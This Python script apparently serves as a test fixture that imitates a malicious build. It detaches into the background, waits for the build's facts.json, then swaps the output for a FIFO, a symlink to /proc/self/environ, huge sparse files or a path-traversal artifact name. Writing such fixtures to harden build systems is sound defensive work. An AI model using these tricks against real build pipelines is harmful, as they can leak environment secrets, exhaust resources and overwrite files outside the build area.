"""What a hostile build may hand back: after all is built, and while the master fetches it.

A process that nobody waits for replaces what `build-module` has written as soon as it is there. Argument: what with.
"""

import json
import os
import sys
import time
from pathlib import Path

OUT = Path("/build/out")
FACTS = OUT / "facts.json"
KO = OUT / "attacker.ko"


def replace(path: Path) -> Path:
    path.unlink(missing_ok=True)
    return path


def claim(*names: str) -> None:
    """Says that these were built."""
    claims = OUT / "claims"
    claims.write_text(json.dumps({"artifacts": names}))
    claims.rename(FACTS)


def fifo() -> None:
    os.mkfifo(replace(KO))


def link() -> None:
    replace(KO).symlink_to("/proc/self/environ")


def sparse() -> None:
    """Nothing of it takes room where it is."""
    names = [f"m{number}.ko" for number in range(64)]
    for name in names:
        with (OUT / name).open("wb") as file:
            file.truncate(250 << 20)
    claim(*names)


def climb() -> None:
    claim("../../index/attacker.json")


def main() -> None:
    if os.fork() or os.fork():
        os._exit(0)
    os.setsid()
    for descriptor in range(3):
        os.dup2(os.open("/dev/null", os.O_RDWR), descriptor)
    while not (FACTS.exists() and FACTS.read_text().endswith("}\n")):
        time.sleep(0.001)
    globals()[sys.argv[1]]()
    time.sleep(3600)


if __name__ == "__main__":
    main()
